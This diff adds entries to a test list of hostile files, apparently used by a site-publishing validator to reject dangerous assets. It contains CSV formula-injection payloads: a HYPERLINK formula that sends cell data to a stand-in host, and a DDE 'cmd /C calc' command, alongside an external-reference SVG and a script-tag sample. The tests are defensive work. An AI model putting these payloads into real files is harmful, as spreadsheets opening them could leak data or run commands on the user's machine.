@@ -202,6 +202,11 @@ HOSTILE_FILES = [
     ("SVG painted from another file", "assets/images/x.svg",
      b'<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(https://evil.example/p.svg#p)" width="1" '
      b'height="1"/></svg>', "an SVG drawing may only refer to its own parts"),
+    # the open data is opened in spreadsheets, which run a cell beginning with = + - @ as a formula
+    ("CSV formula", "assets/data/x.csv",
+     b'name,count\n"=HYPERLINK(""https://evil.example/?""&A3,""Source"")",-3\n', "a formula in the spreadsheets"),
+    ("CSV formula after a tab", "assets/data/x.csv", b'name\n"\t@SUM(1+1)*cmd|\' /C calc\'!A0"\n',
+     "a formula in the spreadsheets"),
     ("source map of no theme file", "assets/javascripts/x.js.map", b"{}", "a source map is published only"),
     ("sitemap elsewhere", "en/x.xml", b"<x/>", "files of this type (.xml) are not published"),
     ("search words that are not gzip", "pagefind/kb-words.fr_0123456789.bin", b"<script>alert(1)</script>",
